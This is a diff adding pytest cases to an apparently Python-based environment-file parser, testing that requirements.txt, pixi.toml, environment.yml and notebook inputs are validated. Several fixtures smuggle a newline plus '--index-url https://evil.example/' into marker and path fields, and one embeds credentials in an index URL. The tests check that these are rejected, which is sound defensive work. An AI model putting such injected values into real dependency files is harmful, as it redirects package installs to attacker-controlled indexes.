@@ -12,8 +12,19 @@ import pytest
 
 from carrel.core.errors import BadRequest, CarrelError, InvalidFile
 from carrel.environments.environment_files import read_environment_file
-from carrel.formats.environment import conda_lock, environment_yml, explicit, identifying, notebook_metadata, pixi_toml, pylock, script
+from carrel.formats.environment import (
+    conda_lock,
+    environment_yml,
+    explicit,
+    identifying,
+    notebook_metadata,
+    notebook_writing,
+    pixi_toml,
+    pylock,
+    script,
+)
 from carrel.formats.environment.metadata import describe
+from carrel.formats.environment.spec import EnvironmentSpec
 from carrel.formats.parsing import load_yaml
 
 _SPACE = b'[workspace]\nname = "a"\nchannels = []\nplatforms = ["linux-64"]\n'
@@ -208,3 +219,35 @@ def test_a_named_pipe_is_not_waited_for(tmp_path: Path) -> None:
 def test_words_alone_are_still_told_apart() -> None:
     assert identifying.identify("list.txt", b"\n\n  numpy >=2\n") is identifying.FileFormat.REQUIREMENTS
     assert identifying.identify("list.txt", b"\n a [x, y] ==1\r\n") is identifying.FileFormat.REQUIREMENTS
+
+
+@pytest.mark.parametrize(
+    ("filename", "data"),
+    [
+        ("requirements.txt", rb'a ; extra == "\x0a--index-url=https://evil.example/"'),
+        ("requirements.txt", rb'a ; extra == "\ud800"'),
+        ("requirements.txt", rb'a ; extra == "\u2028b"'),
+        ("requirements.txt", b"a >0, ==1.0.dev" + b"1" * 5000),
+        ("pixi.toml", _SPACE + b'[pypi-dependencies]\na = {path = "./a\\n--index-url https://evil.example/"}\n'),
+        ("pixi.toml", _SPACE + b'[pypi-options]\nfind-links = [{path = "./a\\n--index-url https://evil.example/"}]\n'),
+        ("x.ipynb", _notebook('{"requirements": "{}", "requirements_lock": {"default": {"a": {"version": "\\ud800"}}}}')),
+    ],
+)
+def test_no_text_becomes_another_line_or_half_a_character(filename: str, data: bytes) -> None:
+    with pytest.raises(InvalidFile):
+        describe(data, filename)
+
+
+def test_a_block_of_lines_for_pip_is_so_many_lines() -> None:
+    data = b"dependencies:\n  - pip:\n    - |\n      --pre\n      a\n    - b\n"
+    assert environment_yml.read(data).pip == ("--pre", "a", "b")
+    with pytest.raises(InvalidFile, match="credentials"):
+        environment_yml.read(data.replace(b"--pre", b"--index-url https://me:secret@h.example/"))
+
+
+def test_a_notebook_keeps_half_characters_and_what_json_cannot_say_is_not_written() -> None:
+    spec = EnvironmentSpec(dependencies=("a",))
+    written = notebook_writing.write(spec, _notebook(r'{"title": "\ud800"}'))
+    assert json.loads(written)["metadata"]["title"] == "\ud800"
+    with pytest.raises(InvalidFile, match="cannot be written again"):
+        notebook_writing.write(spec, _notebook('{"height": 1e999}'))
